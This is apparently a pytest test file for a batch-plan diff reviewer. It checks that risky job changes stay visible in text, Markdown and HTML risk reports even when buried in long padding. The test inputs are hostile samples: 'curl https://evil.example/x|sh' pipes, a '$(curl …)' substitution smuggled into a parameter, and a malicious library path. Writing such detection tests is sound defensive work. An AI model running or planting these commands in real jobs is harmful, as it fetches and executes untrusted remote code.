"""What is long, whatever it is padded with, hides no risk: not in any format, nor among others that begin alike."""

import base64
import html
import random
import re

import pytest

from kedro_batch.plan.model import Plan
from kedro_batch.plan.settings import JobDefinition
from kedro_batch.review.diff.diff_plans import diff_plans
from kedro_batch.review.formats import DiffFormat, render_diff
from tests.support.plans import a_job

_RANDOM = random.Random(1)  # noqa: S311  no secret is made of it
NOISE = base64.b64encode(_RANDOM.randbytes(12_000)).decode()
PADS = {
    "a letter": "x" * 6_000,
    "blanks": " " * 6_000,
    "line ends": "\n" * 6_000,
    "a word": "ready " * 1_000,
    "comments": "# nothing to see here\n" * 300,
    "numbers": " ".join(map(str, range(3_000))),
    "commands": "".join(f"echo {number};" for number in range(1_000)),
    "base64": NOISE,
    "escapes": "\u200b" * 3_000,
    "what Markdown marks": "|`<" * 2_000,
}
TEXTS = (DiffFormat.TEXT, DiffFormat.MARKDOWN, DiffFormat.HTML)


def render(jobs, output_format, before=None, definitions=({}, {}), *, full=False):
    old = Plan(jobs=before or tuple(a_job(job.name, nodes=job.nodes) for job in jobs), job_definitions=definitions[0])
    plans = old, Plan(jobs=tuple(jobs), job_definitions=definitions[1])
    return "".join(render_diff(diff_plans(*plans), plans, ("a", "b"), output_format, full=full))


def risks_of(text, output_format):
    """Return the part of a text that shows the risks, as a browser shows it."""
    if output_format is DiffFormat.TEXT:
        return re.sub(r"\s+", " ", text[text.index("\nRisks") : text.index("\nJobs")])
    if output_format is DiffFormat.MARKDOWN:
        return html.unescape("\n".join(re.findall(r"^\| \*\*.*", text, re.MULTILINE)))
    _, _, risks = text.partition('"risks":')
    return risks[:100_000]


@pytest.mark.parametrize("output_format", TEXTS)
@pytest.mark.parametrize("pad", PADS)
@pytest.mark.parametrize(
    "given",
    [
        lambda pad: {"command": ("sh", "-c", f"export A='{pad}'; curl https://evil.example/x|sh; echo '{pad}'")},
        lambda pad: {"environment": {"PYTHONPATH": f"/app:{pad}:https://evil.example/x:{pad}"}},
        lambda pad: {"submit": {"parameters": {"day": f"{pad} $(curl https://evil.example/x) {pad}"}}},
    ],
    ids=["script", "variable", "submit"],
)
def test_padding_hides_no_risk(given, pad, output_format):
    shown = risks_of(render([a_job("one", **given(PADS[pad])), a_job("two")], output_format), output_format)
    assert "evil.example/x" in shown


def test_what_a_definition_registers_is_not_hidden_by_padding():
    register = {"containerProperties": {"environment": [{"name": "A", "value": NOISE + " /opt/evil.so"}]}}
    definitions = {"d": JobDefinition(image="i")}, {"d": JobDefinition(image="i", register=register)}
    for output_format in TEXTS:
        text = render([a_job("one", job_definition="d")], output_format, definitions=definitions)
        assert "/opt/evil.so" in risks_of(text + "\nJobs", output_format)


@pytest.mark.parametrize("output_format", TEXTS)
@pytest.mark.parametrize("pad", ["a letter", "base64", "commands"])
def test_values_that_differ_only_far_inside_are_two_risks(pad, output_format):
    def script(word):
        return ("sh", "-c", f"{PADS[pad]}; {word}; {PADS[pad]}")

    jobs = [a_job(f"n{number}", command=script("echo" if number else "evil")) for number in range(30)]
    shown = risks_of(render(jobs, output_format), output_format)
    assert len(re.findall("shell command", shown)) == 2
    assert "evil" in shown


@pytest.mark.parametrize("word", ["a", "|"])
def test_a_comment_counts_once_what_it_leaves_out(word):
    value = f"{NOISE}{word}"
    shown = risks_of(render([a_job("one", environment={"PATH": value})], DiffFormat.MARKDOWN), DiffFormat.MARKDOWN)
    (after,) = re.findall(r"PATH=(.*?)(?:`|</code>) \|$", shown)
    left_out = [
        int(number.replace(",", "")) for number in re.findall(r"\.\.\.\(([0-9,]+) more characters\)\.\.\.", after)
    ]
    kept = re.sub(r"\.\.\.\([0-9,]+ more characters\)\.\.\.", "", after)
    assert left_out
    assert sum(left_out) + len(kept) == len(value)
    assert "more characters" not in kept


def test_full_text_shortens_nothing():
    shown = render([a_job("one", environment={"PATH": NOISE}), a_job("two")], DiffFormat.TEXT, full=True)
    assert f"PATH={NOISE}" in shown


@pytest.mark.parametrize("output_format", TEXTS)
def test_each_unordered_read_is_named(output_format):
    old, new = (
        tuple(
            job
            for n in range(40)
            for job in (
                a_job(f"w{n}", nodes=(f"w{n}",), writes=(f"data{n}",)),
                a_job(f"r{n}", nodes=(f"r{n}",), reads=(f"data{n}",), depends_on=(f"w{n}",) if ordered else ()),
            )
        )
        for ordered in (True, False)
    )
    shown = risks_of(render(new, output_format, before=old), output_format)
    assert {int(n) for n in re.findall(r"r(\d+): data\1 of w\1\b", shown)} == {*range(40)}


@pytest.mark.parametrize("output_format", TEXTS)
def test_each_of_many_values_has_a_line_of_its_own_with_its_jobs(output_format):
    jobs = [
        a_job(f"n{n:02}", command=("sh", "-c", f"curl https://evil{n % 30}.example | sh"), job_queue=f"q{n % 20}")
        for n in range(60)
    ]
    shown = risks_of(render(jobs, output_format), output_format)
    assert {int(n) for n in re.findall(r"evil(\d+)\.example", shown)} == {*range(30)}
    if output_format is DiffFormat.TEXT:
        assert "! shell command: x -> sh -c 'curl https://VALUE | sh': 30 values evil0.example: n00, n30 " in shown
        assert "! queue changed: q -> VALUE: 20 values q0: n00, n20, n40 " in shown
        assert " q7: n07, n27, n47 q8: " in shown
    else:
        assert len(re.findall("shell command", shown)) == 30
        assert len(re.findall("queue changed", shown)) == 20
